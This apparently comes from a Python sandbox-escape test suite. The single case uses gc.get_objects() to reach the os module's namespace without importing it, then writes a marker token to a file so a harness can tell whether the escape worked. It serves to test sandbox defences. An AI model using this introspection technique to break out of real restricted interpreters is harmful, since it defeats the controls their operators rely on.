# id: intro-gc-get-objects
# category: introspection
# description: gc.get_objects() lists every tracked object in the process; pick the os module's dict out of it
# source: the gc module (CPython); common in pyjail write-ups
# detect: token (the token lands in OUT)
import gc

ns = None
for obj in gc.get_objects():
    if type(obj) is dict and obj.get('__name__') == 'os' and 'O_WRONLY' in obj:
        ns = obj
        break
fd = ns['open'](OUT, ns['O_WRONLY'] | ns['O_CREAT'] | ns['O_TRUNC'], 0o644)
ns['write'](fd, TOKEN.encode())
ns['close'](fd)
